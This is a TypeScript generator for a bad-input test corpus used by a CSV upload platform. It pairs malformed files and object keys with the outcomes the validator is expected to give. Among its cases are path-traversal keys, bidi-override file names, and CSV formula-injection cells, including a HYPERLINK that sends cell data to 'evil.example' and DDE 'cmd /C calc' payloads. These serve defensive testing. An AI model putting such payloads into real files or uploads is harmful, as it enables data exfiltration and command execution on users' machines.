/**
 * The bad-input corpus: files and object keys that try every way an upload can be wrong, each
 * with the outcome the platform must give. Generated, never committed: `writeCorpus(dir)` writes
 * every file into `dir` (the 2 GB case as a sparse file, which takes no disk space), and
 * `npx tsx test/corpus/generate.ts DIR` does the same from the command line.
 */
import { closeSync, mkdirSync, openSync, readFileSync, writeFileSync, ftruncateSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { deflateRawSync, gzipSync } from 'node:zlib';
import iconv from 'iconv-lite';
import type { Catalog } from '#core/catalog';
import { columnsFor, rowsFor, toCsv } from '#local/seed/generate';

import type { FailureCode } from '#core/receipt';

const PROVIDER = 'SH-AMR';
const ITEM = 'AMR-PENALTY';
const MiB = 1024 * 1024;

/** Expected outcome: a receipt, or a refusal of POST /v1/uploads before any byte is stored. */
export type Expected =
  | { status: 'FAILED'; code: FailureCode; reason: RegExp; errorCode?: string }
  | {
      status: 'COMPLETED';
      rows: number;
      accepted: number;
      /** Row number (header = 1) → the error code that row must carry. */
      rejected?: Record<number, string>;
      encoding?: 'utf-8' | 'gb18030';
    }
  | { http: number; code: string };

export interface CorpusCase {
  name: string;
  /** How it arrives: the presigned upload route, straight into the bucket, or only the upload request. */
  via: 'upload' | 'put' | 'request';
  provider: string;
  item: string;
  /** upload/request: the fileName sent; put: the object key. */
  target: string;
  /** The generated file, relative to the corpus directory (none for 'request'). */
  file?: string;
  expect: Expected;
  /** What the case is about, for docs/reliability.md. */
  about: string;
}

const demoCatalog = (): Catalog => JSON.parse(readFileSync(new URL('../../local/seed/demo-catalog.json', import.meta.url), 'utf8')) as Catalog;

/** Writes every corpus file into `dir` and returns the cases. */
export function writeCorpus(dir: string, catalog: Catalog = demoCatalog()): CorpusCase[] {
  mkdirSync(dir, { recursive: true });
  const item = catalog.items.find((i) => i.code === ITEM)!;
  const cols = columnsFor(item);
  const rows = (n: number, seed: number) => rowsFor(ITEM, catalog, n, seed);
  const csv = (r: Array<Record<string, string>>, keys = cols) => toCsv(keys, r);
  const cases: CorpusCase[] = [];
  const add = (c: Omit<CorpusCase, 'via' | 'provider' | 'item' | 'target'> & Partial<CorpusCase>, body?: Buffer | string) => {
    const file = body === undefined ? c.file : (c.file ?? `${c.name}.csv`);
    if (body !== undefined) writeFileSync(join(dir, file!), body);
    cases.push({ via: 'upload', provider: PROVIDER, item: ITEM, target: `${c.name}.csv`, ...c, file });
  };

  add({ name: 'empty-file', about: 'zero bytes', expect: { status: 'FAILED', code: 'EMPTY_FILE', reason: /the file is empty/ } }, Buffer.alloc(0));
  add({ name: 'header-only', about: 'a header row and no data', expect: { status: 'COMPLETED', rows: 0, accepted: 0 } }, csv([]));
  add(
    { name: 'zip-named-csv', about: 'a ZIP archive (an .xlsx) with a .csv name', expect: { status: 'FAILED', code: 'BINARY_CONTENT', reason: /ZIP archive/ } },
    zipOf('sheet.csv', csv(rows(20, 1))),
  );
  add(
    { name: 'gzip-named-csv', about: 'gzip-compressed CSV with a .csv name', expect: { status: 'FAILED', code: 'BINARY_CONTENT', reason: /gzip/ } },
    gzipSync(csv(rows(20, 2))),
  );
  add(
    {
      name: 'single-line-10mb',
      about: 'one 10 MB line, no line break',
      expect: { status: 'FAILED', code: 'MALFORMED_FILE', reason: /longer than 1048576 bytes/ },
    },
    'x,'.repeat(5 * MiB),
  );

  const unbalanced = csv(rows(30, 3)).split('\r\n');
  unbalanced[10] = unbalanced[10]!.replace(',', ',"'); // opens a quote that never closes
  add(
    {
      name: 'unbalanced-quote',
      about: 'a quoted field that never closes',
      expect: { status: 'FAILED', code: 'MALFORMED_FILE', reason: /unbalanced quote: the quoted field opened in row 11 never closes/ },
    },
    unbalanced.join('\r\n'),
  );

  add(
    { name: 'cr-only-line-ends', about: 'classic Mac line ends (CR only)', expect: { status: 'COMPLETED', rows: 40, accepted: 40 } },
    csv(rows(40, 4)).replace(/\r\n/g, '\r'),
  );

  // UTF-8 file with three rows pasted in from a GBK system: those rows are rejected, the rest kept
  const mixedLines = csv(rows(50, 5)).split('\r\n');
  const mixed = mixedLines.map((line, i) => (i === 5 || i === 20 || i === 40 ? iconv.encode(line, 'gb18030') : Buffer.from(line, 'utf8')));
  add(
    {
      name: 'mixed-encodings',
      about: 'UTF-8 with three GB18030 rows',
      expect: { status: 'COMPLETED', rows: 50, accepted: 47, rejected: { 6: 'FORMAT', 21: 'FORMAT', 41: 'FORMAT' }, encoding: 'utf-8' },
    },
    joinLines(mixed),
  );
  const chinese = toCsv(cols, rows(30, 6), { labels: true, item });
  add(
    {
      name: 'gb18030-with-its-bom',
      about: 'GB18030 with the GB18030 byte-order mark (84 31 95 33)',
      expect: { status: 'COMPLETED', rows: 30, accepted: 30, encoding: 'gb18030' },
    },
    Buffer.concat([Buffer.from([0x84, 0x31, 0x95, 0x33]), iconv.encode(chinese, 'gb18030')]),
  );
  add(
    {
      name: 'utf8-bom-on-gb18030',
      about: 'a UTF-8 byte-order mark on GB18030 text',
      expect: { status: 'FAILED', code: 'ENCODING', reason: /byte-order mark, but its text is not UTF-8/ },
    },
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), iconv.encode(chinese, 'gb18030')]),
  );

  const wide = Array.from({ length: 5000 }, (_, i) => `column${i + 1}`);
  add(
    {
      name: 'header-5000-columns',
      about: '5,000 unknown header columns',
      expect: { status: 'FAILED', code: 'HEADER_MISMATCH', reason: /and \d+ more/, errorCode: 'UNKNOWN_COLUMN' },
    },
    `${wide.join(',')}\r\n${wide.map(() => 'x').join(',')}\r\n`,
  );
  const wideRow = csv(rows(5, 7)) + `${Array.from({ length: 5000 }, () => 'x').join(',')}\r\n`;
  add(
    { name: 'row-5000-columns', about: 'a data row of 5,000 cells', expect: { status: 'COMPLETED', rows: 6, accepted: 5, rejected: { 7: 'FORMAT' } } },
    wideRow,
  );
  add(
    {
      name: 'duplicated-headers',
      about: 'the same column twice',
      expect: {
        status: 'FAILED',
        code: 'HEADER_MISMATCH',
        reason: new RegExp(`column ${cols.length + 1} is a second partyName column`),
        errorCode: 'DUPLICATE_COLUMN',
      },
    },
    toCsv([...cols, 'partyName'], rows(3, 8)),
  );

  // Formula cells are data: stored as written, and neutralised in the rejection report
  const formulas = rows(6, 9);
  formulas[0]!.facts = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
  formulas[1]!.legalBasis = "+cmd|' /C calc'!A0";
  formulas[2]!.penaltyContent = '@SUM(1+1)*cmd|" /C calc"!A0';
  formulas[3]!.facts = '-2+3+cmd|" /C calc"!A0';
  formulas[4]!.facts = '=1+1';
  formulas[4]!.decisionDate = '2026-02-30'; // rejected: its formula cell must appear neutralised in the report
  add(
    {
      name: 'formula-injection',
      about: 'cells starting =HYPERLINK(, +cmd, @SUM, -2+3',
      expect: { status: 'COMPLETED', rows: 6, accepted: 5, rejected: { 6: 'DATE' } },
    },
    csv(formulas),
  );

  const controls = rows(6, 10);
  controls[0]!.facts = 'bell\u0007here';
  controls[1]!.partyName = '\u001b[31m上海红字有限公司';
  controls[2]!.violationType = 'back\u0008space';
  controls[3]!.facts = 'C1 control \u0085 next line';
  controls[4]!.facts = 'tab\tand\nline break stay legal';
  add(
    {
      name: 'control-characters',
      about: 'BEL, ESC, BS, C1 NEL in cells (tab and line breaks in text stay legal)',
      expect: {
        status: 'COMPLETED',
        rows: 6,
        accepted: 2,
        rejected: { 2: 'CONTROL_CHARACTER', 3: 'CONTROL_CHARACTER', 4: 'CONTROL_CHARACTER', 5: 'CONTROL_CHARACTER' },
      },
    },
    csv(controls),
  );
  const nul = rows(5, 11);
  nul[2]!.facts = 'fine\u0000here';
  add(
    {
      name: 'nul-bytes',
      about: 'a NUL byte in one cell of a text file: that row alone is rejected',
      expect: { status: 'COMPLETED', rows: 5, accepted: 4, rejected: { 4: 'CONTROL_CHARACTER' } },
    },
    csv(nul),
  );
  const binaryish = Buffer.concat([Buffer.from(csv(rows(2, 11))), Buffer.alloc(4096, 1)]);
  add(
    {
      name: 'mostly-binary',
      about: 'a short CSV followed by 4 KiB of control bytes',
      expect: { status: 'FAILED', code: 'BINARY_CONTENT', reason: /control bytes/ },
    },
    binaryish,
  );

  const long = rows(5, 12);
  long[0]!.facts = '长'.repeat(100_000);
  long[1]!.partyName = '上海'.repeat(150) + '有限公司';
  long[2]!.decisionNo = 'X'.repeat(129);
  add(
    {
      name: 'over-long-fields',
      about: 'a 100,000-character text, a 304-character name, a 129-character key',
      expect: { status: 'COMPLETED', rows: 5, accepted: 2, rejected: { 2: 'LENGTH', 3: 'LENGTH', 4: 'LENGTH' } },
    },
    csv(long),
  );
  const huge = rows(3, 13);
  huge[1]!.facts = 'x'.repeat(2 * MiB);
  add(
    {
      name: 'over-long-record',
      about: 'a 2 MiB field (one record over the 1 MiB limit)',
      expect: { status: 'FAILED', code: 'MALFORMED_FILE', reason: /record at row 3 is longer than/ },
    },
    csv(huge),
  );

  // Object keys and file names
  const ok = csv(rows(3, 14));
  writeFileSync(join(dir, 'small-valid.csv'), ok);
  const put = (name: string, key: string, expect: Expected, about: string, provider = PROVIDER, itemCode = ITEM) =>
    cases.push({ name, via: 'put', provider, item: itemCode, target: key, file: 'small-valid.csv', expect, about });
  const request = (name: string, fileName: string, expect: Expected, about: string, provider = PROVIDER, itemCode = ITEM) =>
    cases.push({ name, via: 'request', provider, item: itemCode, target: fileName, expect, about });

  put(
    'key-dot-dot',
    `incoming/${PROVIDER}/${ITEM}/../../SH-TAX/TAX-ARREARS/x.csv`,
    { status: 'FAILED', code: 'INVALID_KEY', reason: /'\.\.' path segment/ },
    'a key climbing out of its prefix with ../',
  );
  put(
    'key-odd-unicode-ok',
    `incoming/${PROVIDER}/${ITEM}/处罚 信息+100%（第1批）.csv`,
    { status: 'COMPLETED', rows: 3, accepted: 3 },
    'CJK, space, + and % in a key (URL-encoding round trip)',
  );
  put(
    'key-bidi-override',
    `incoming/${PROVIDER}/${ITEM}/penalties\u202Evsc.exe.csv`,
    { status: 'FAILED', code: 'INVALID_KEY', reason: /U\+202E/ },
    'a right-to-left override in the file name',
  );
  put(
    'key-zero-width',
    `incoming/${PROVIDER}/${ITEM}/pen\u200Balties.csv`,
    { status: 'FAILED', code: 'INVALID_KEY', reason: /U\+200B/ },
    'a zero-width space in the file name',
  );
  put(
    'key-full-width-provider',
    `incoming/ＳＨ-ＡＭＲ/${ITEM}/x.csv`,
    { status: 'FAILED', code: 'INVALID_KEY', reason: /invalid provider or item code/ },
    'a full-width provider code',
  );
  put(
    'key-nested-folder',
    `incoming/${PROVIDER}/${ITEM}/2026/11/x.csv`,
    { status: 'FAILED', code: 'INVALID_KEY', reason: /folders below the item/ },
    'folders below the item',
  );
  put(
    'key-not-csv',
    `incoming/${PROVIDER}/${ITEM}/x.xlsx`,
    { status: 'FAILED', code: 'UNSUPPORTED_FORMAT', reason: /neither \.csv nor \.jsonl/ },
    'an .xlsx name',
  );
  put(
    'unknown-provider',
    `incoming/SH-NOBODY/${ITEM}/x.csv`,
    { status: 'FAILED', code: 'UNKNOWN_PROVIDER', reason: /provider 'SH-NOBODY' is not in catalog/ },
    'an unknown provider prefix',
    'SH-NOBODY',
  );
  put(
    'other-providers-item',
    `incoming/SH-TAX/${ITEM}/x.csv`,
    { status: 'FAILED', code: 'WRONG_PROVIDER', reason: /belongs to provider 'SH-AMR', not 'SH-TAX'/ },
    "a file for another provider's item",
    'SH-TAX',
  );
  put(
    'unknown-item',
    `incoming/${PROVIDER}/AMR-NOTHING/x.csv`,
    { status: 'FAILED', code: 'UNKNOWN_ITEM', reason: /item 'AMR-NOTHING' is not in catalog/ },
    'an item outside the catalog',
    PROVIDER,
    'AMR-NOTHING',
  );
  request('request-dot-dot', '../../SH-TAX/x.csv', { http: 400, code: 'INVALID_FILE_NAME' }, 'a fileName with ../');
  request('request-bidi', 'penalties\u202Evsc.exe.csv', { http: 400, code: 'INVALID_FILE_NAME' }, 'a fileName with a right-to-left override');
  request('request-other-item', 'x.csv', { http: 403, code: 'NOT_YOUR_ITEM' }, "an upload request for another provider's item", 'SH-TAX');

  // 2 GB of zeros, sparse on disk; refused from its first 64 KiB without reading the rest
  const sparse = join(dir, 'sparse-2gb.csv');
  const fd = openSync(sparse, 'w');
  ftruncateSync(fd, 2 * 1024 * MiB);
  closeSync(fd);
  cases.push({
    name: 'sparse-2gb',
    via: 'put',
    provider: PROVIDER,
    item: ITEM,
    target: `incoming/${PROVIDER}/${ITEM}/sparse-2gb.csv`,
    file: 'sparse-2gb.csv',
    expect: { status: 'FAILED', code: 'BINARY_CONTENT', reason: /control bytes/ },
    about: 'a 2 GB sparse file (all NUL)',
  });
  return cases;
}

function joinLines(lines: Buffer[]): Buffer {
  return Buffer.concat(lines.flatMap((l) => [l, Buffer.from('\r\n')]));
}

/** A one-entry ZIP archive (local header, deflated data, central directory), as spreadsheets write. */
function zipOf(name: string, text: string): Buffer {
  const data = Buffer.from(text);
  const packed = deflateRawSync(data);
  const fileName = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(packed.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(local.length + fileName.length + packed.length, 16);
  return Buffer.concat([local, fileName, packed, central, fileName, end]);
}

/** The expected outcome in words, for the table in docs/reliability.md. */
export function describeExpected(e: Expected): string {
  if ('http' in e) return `refused ${e.http} \`${e.code}\``;
  if (e.status === 'FAILED') return `FAILED \`${e.code}\` — reason matches \`${e.reason.source}\`${e.errorCode ? `, error \`${e.errorCode}\`` : ''}`;
  const rejected = Object.entries(e.rejected ?? {}).map(([row, code]) => `row ${row} \`${code}\``);
  return `COMPLETED — ${e.rows} rows, ${e.accepted} accepted${rejected.length ? `, rejected ${rejected.join(', ')}` : ''}${e.encoding ? `, encoding ${e.encoding}` : ''}`;
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  // tsx test/corpus/generate.ts DIR [--table]: writes the corpus; --table prints the docs table
  const dir = process.argv[2];
  if (!dir) {
    console.error('usage: tsx test/corpus/generate.ts DIR [--table]');
    process.exit(2);
  }
  const cases = writeCorpus(dir);
  if (process.argv.includes('--table')) {
    console.log('| case | what it tries | via | expected outcome |\n|---|---|---|---|');
    for (const c of cases) console.log(`| ${c.name} | ${c.about.replace(/\|/g, '\\|')} | ${c.via} | ${describeExpected(c.expect).replace(/\|/g, '\\|')} |`);
  } else {
    for (const c of cases) console.log(`${c.name.padEnd(24)} ${c.via.padEnd(8)} ${c.target}`);
  }
}
